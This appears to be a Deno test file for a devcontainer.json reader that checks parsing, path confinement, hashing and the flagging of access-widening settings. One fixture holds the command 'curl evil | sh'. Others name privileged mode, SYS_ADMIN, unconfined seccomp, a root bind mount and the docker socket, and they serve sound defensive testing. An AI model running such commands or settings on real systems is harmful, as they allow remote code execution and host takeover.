import assert from "node:assert/strict";
import { localEnvMark } from "../../lib/config/devcontainer.ts";
import { mergeImageMetadata } from "../../lib/devcontainer/origins.ts";
import { readDevContainer } from "../../lib/devcontainer/read.ts";
import type { DevContainer, ImageMetadata } from "../../lib/devcontainer/types.ts";
import { openTree } from "../../lib/host/tree/tree.ts";
import { ProjectFolder } from "./project_folder.ts";

const PATH = ".devcontainer/devcontainer.json";

function variables(folder: string, host: Readonly<Record<string, string>> = {}) {
  return { localWorkspaceFolder: folder, devcontainerId: "id", localEnv: (name: string) => host[name] };
}

async function read(
  file: unknown,
  more: Readonly<Record<string, string>> = {},
  host: Readonly<Record<string, string>> = {},
): Promise<DevContainer> {
  const text = typeof file === "string" ? file : JSON.stringify(file);
  await using project = await ProjectFolder.create({ [PATH]: text, ...more });
  using tree = openTree(project.path);
  return await readDevContainer(tree, PATH, variables(project.path, host));
}

const refused = (file: unknown, message: RegExp, code = "bad-devcontainer", more = {}) =>
  assert.rejects(() => read(file, more), (error: { code: string; message: string }) => {
    assert.equal(error.code, code, error.message);
    assert.match(error.message, message);
    return true;
  });

Deno.test("readDevContainer reads JSON with comments and commas too many, and says the line of what is none", async () => {
  const dev = await read('// one\n{ /* two */ "image": "a/b:1", "forwardPorts": [3000,], }');
  assert.equal(dev.image, "a/b:1");
  assert.deepEqual(dev.forwardPorts, [3000]);
  await refused('{\n"image": "a"\n"name": 1}', /line 3: comma expected/);
  await refused("[".repeat(100_000), /nested too deeply|line 1/);
  for (const depth of [100, 3000]) {
    await refused(
      `{"image":"a","customizations":{"a":${"[".repeat(depth)}${"]".repeat(depth)}}}`,
      /nested too deeply/,
    );
  }
});

Deno.test("readDevContainer says where a value is that does not fit", async () => {
  await refused({ image: 1 }, /image: expected text of one line/);
  await refused({ image: "a", forwardPorts: [70000] }, /forwardPorts\.0: expected a port/);
  await refused({ image: "a", containerEnv: { "A=B": "x" } }, /containerEnv\.A=B: not a variable's name/);
  await refused({ image: "a", workspaceFolder: "relative" }, /workspaceFolder: expected an absolute path/);
  await refused(
    { image: "a", features: { "./f": { a: 1 } } },
    /a: expected text of one line, or true or false/,
  );
  await refused({ image: "a", postCreateCommand: 3 }, /postCreateCommand: expected a command/);
  await refused([], /expected a table/);
});

Deno.test("readDevContainer wants an image or a Dockerfile, and refuses what needs several containers", async () => {
  await refused({ name: "x" }, /neither an image nor a Dockerfile/);
  await refused({ dockerComposeFile: "c.yml", service: "a" }, /dockerComposeFile/, "devcontainer-compose");
  assert.equal((await read({ image: "a" })).build, undefined);
});

Deno.test("readDevContainer finds Dockerfile and context from the file's folder, and nothing outside of the project", async () => {
  const files = { ".devcontainer/Dockerfile": "FROM a\n", "Dockerfile": "FROM a\n" };
  const build = async (asked: unknown) => (await read({ build: asked }, files)).build;
  assert.deepEqual(
    await build({ dockerfile: "Dockerfile", args: { A: "1" }, target: "a", context: ".." }).catch(String),
    "KanibakoError: Cannot build the project's Dockerfile: it has no stage a.",
  );
  assert.deepEqual(await build({ dockerfile: "../Dockerfile" }), {
    dockerfile: "Dockerfile",
    context: "",
    args: {},
    cacheFrom: [],
    options: [],
  });
  assert.equal((await build({ dockerfile: "Dockerfile" }))?.context, ".devcontainer");
  assert.equal((await build({ dockerfile: "Dockerfile", context: ".." }))?.context, "");
  await refused({ build: { dockerfile: "../../Dockerfile" } }, /is not in the project/);
  await refused({ build: { dockerfile: "/etc/Dockerfile" } }, /is not in the project/);
  await refused(
    { build: { dockerfile: "Dockerfile", context: "../.." } },
    /is not in the project/,
    "bad-devcontainer",
    files,
  );
  await refused({ build: { dockerfile: "none" } }, /there is no file/, "bad-dockerfile");
});

Deno.test("readDevContainer lists what would widen access: what may be approved, and what never has an effect", async () => {
  const dev = await read({
    image: "a",
    privileged: true,
    capAdd: ["SYS_ADMIN"],
    securityOpt: ["seccomp=unconfined"],
    runArgs: ["--net=host"],
    initializeCommand: "curl evil | sh",
    hostRequirements: { gpu: true },
    workspaceMount: "type=bind,source=/,target=/host",
    mounts: ["type=bind,source=/etc,target=/e,readonly", "type=volume,source=v,target=/v"],
    remoteEnv: { T: "${localEnv:TOKEN}" },
  });
  const keys = (treatment: string) =>
    dev.widening.filter((one) => one.treatment === treatment).map(({ key, value }) => `${key} ${value}`);
  assert.deepEqual(keys("approve"), [
    'mounts[0] {"source":"/etc","target":"/e","readOnly":true}',
    'localEnv "TOKEN"',
  ]);
  assert.deepEqual(keys("left-out"), [
    'initializeCommand "curl evil | sh"',
    'runArgs ["--net=host"]',
    'hostRequirements {"gpu":true}',
    'workspaceMount "type=bind,source=/,target=/host"',
    "privileged true",
    'capAdd ["SYS_ADMIN"]',
    'securityOpt ["seccomp=unconfined"]',
  ]);
  assert.deepEqual((await read({ image: "a", privileged: false, capAdd: [] })).widening, []);
});

Deno.test("readDevContainer puts in no variable of the host but those that are answered", async () => {
  const file = { image: "a", containerEnv: { A: "${localEnv:A}", B: "${localEnv:B:none}" } };
  const dev = await read(file, {}, { A: "of the host" });
  assert.deepEqual(dev.containerEnv, { A: "of the host", B: "none" });
  assert.deepEqual(dev.localEnv, ["A", "B"]);
});

Deno.test("a user and a volume may be called as a variable of the host says, before that is put in", async () => {
  const file = {
    image: "a",
    remoteUser: "${localEnv:USER}",
    mounts: ["type=volume,source=${localEnv:USER}-cache,target=/c"],
  };
  const dev = await read(file, {}, { USER: localEnvMark("USER") });
  assert.equal(dev.remoteUser, localEnvMark("USER"));
  assert.equal(dev.mounts[0]!.source, `${localEnvMark("USER")}-cache`);
  await refused({ image: "a", remoteUser: "a\u0001" }, /has a control character/);
});

Deno.test("readDevContainer knows the project's place in the box from the file, else from the project's name", async () => {
  const env = { W: "${containerWorkspaceFolder}" };
  const asked = await read({ image: "a", workspaceFolder: "/src/${devcontainerId}", containerEnv: env });
  assert.equal(asked.containerEnv.W, "/src/id");
  assert.equal(asked.workspaceFolder, "/src/id");
  assert.match(
    (await read({ image: "a", containerEnv: env })).containerEnv.W!,
    /^\/workspaces\/kanibako-dev-/,
  );
});

Deno.test("the hash of a devcontainer.json covers all that decides, and nothing else", async () => {
  const files = {
    [PATH]: JSON.stringify({ build: { dockerfile: "Dockerfile" }, features: { "./f": {} } }),
    ".devcontainer/Dockerfile": "FROM a\nCOPY setup.sh /\nRUN sh /setup.sh\n",
    ".devcontainer/setup.sh": "echo 1",
    ".devcontainer/f/install.sh": "echo 1",
    "src/main.c": "int main;",
  };
  await using project = await ProjectFolder.create(files);
  using tree = openTree(project.path);
  const hash = async () => (await readDevContainer(tree, PATH, variables(project.path))).hash;
  let before = await hash();
  await project.write({ "src/main.c": "changed", ".devcontainer/notes": "new" });
  assert.equal(await hash(), before);
  for (const path of Object.keys(files).filter((name) => name !== "src/main.c")) {
    await project.write({ [path]: `${files[path as keyof typeof files]}\n` });
    const after = await hash();
    assert.notEqual(after, before, path);
    before = after;
  }
  await project.write({ ".devcontainer/devcontainer-lock.json": '{"features":{}}' });
  assert.notEqual(await hash(), before);
});

Deno.test("a build that copies everything says that what it copies is not part of what is approved", async () => {
  const keys = async (dockerfile: string) => {
    const dev = await read({ build: { dockerfile: "Dockerfile" } }, {
      ".devcontainer/Dockerfile": dockerfile,
      ".devcontainer/a": "",
    });
    return dev.widening.map(({ key }) => key);
  };
  assert.deepEqual(await keys("FROM a\nCOPY . /\n"), ["build", "build.context"]);
  assert.deepEqual(await keys("FROM a\nCOPY a /\n"), ["build"]);
});

Deno.test("mergeImageMetadata puts what an image says before what the file says, with its own hash", async () => {
  const dev = await read({
    image: "a",
    remoteUser: "me",
    postCreateCommand: "own",
    mounts: ["type=volume,source=mine,target=/x"],
  });
  const metadata: ImageMetadata[] = [
    { remoteUser: "vscode", postCreateCommand: "image's", containerEnv: { A: "1" } },
    {
      id: "ghcr.io/o/f/docker:1",
      privileged: true,
      entrypoint: "/e.sh",
      mounts: [
        { type: "volume", source: "theirs", target: "/x" },
        { type: "bind", source: "/var/run/docker.sock", target: "/sock" },
      ],
    },
  ];
  const merged = await mergeImageMetadata(dev, metadata, variables("/p"));
  assert.equal(merged.remoteUser, "me");
  assert.deepEqual(merged.lifecycle.postCreate, [
    { from: "image", command: "image's" },
    { from: "devcontainer.json", command: "own" },
  ]);
  assert.deepEqual(merged.entrypoints, ["/e.sh"]);
  assert.deepEqual(merged.mounts.map(({ source }) => source), ["/var/run/docker.sock", "mine"]);
  assert.deepEqual(merged.widening.map(({ key, from, treatment }) => [key, from, treatment]), [
    ["mounts[0]", "ghcr.io/o/f/docker:1", "approve"],
    ["privileged", "ghcr.io/o/f/docker:1", "left-out"],
  ]);
  assert.notEqual(merged.hash, dev.hash);
  assert.equal((await mergeImageMetadata(dev, [], variables("/p"))).hash, dev.hash);
  await assert.rejects(() => mergeImageMetadata(dev, [{ mounts: 1 }], variables("/p")), {
    code: "bad-image-metadata",
  });
});

Deno.test("an image cannot pass for the file of the project", async () => {
  const dev = await read({ image: "a" });
  const mount = { type: "bind", source: "/etc", target: "/e" };
  for (const id of ["devcontainer.json", "x/devcontainer.json", "image", ""]) {
    const merged = await mergeImageMetadata(dev, [{ id, mounts: [mount] }], variables("/p"));
    assert.deepEqual(merged.mounts.map(({ from }) => from), ["image"], id);
  }
});

Deno.test("readDevContainer reads nothing through a link", async () => {
  await using project = await ProjectFolder.create({
    [PATH]: '{"build":{"dockerfile":"Dockerfile"}}',
    "real": "FROM a\n",
  });
  await Deno.symlink("../real", `${project.path}/.devcontainer/Dockerfile`);
  using tree = openTree(project.path);
  await assert.rejects(() => readDevContainer(tree, PATH, variables(project.path)), { code: "unsafe-tree" });
});

Deno.test("mergeImageMetadata gives an image no variable of the host but those that the file names", async () => {
  const host = { MINE: "of the host", TOKEN: "hunter2" };
  const dev = await read({ image: "a", containerEnv: { A: "${localEnv:MINE}" } }, {}, host);
  const metadata = [{ containerEnv: { B: "${localEnv:MINE}", C: "${localEnv:TOKEN}" } }];
  const merged = await mergeImageMetadata(dev, metadata, variables("/p", host));
  assert.deepEqual(merged.containerEnv, { A: "of the host", B: "of the host", C: "" });
  assert.deepEqual(merged.localEnv, ["MINE"]);
  assert.match(merged.unsupported.join(" "), /"TOKEN" of this machine/);
});
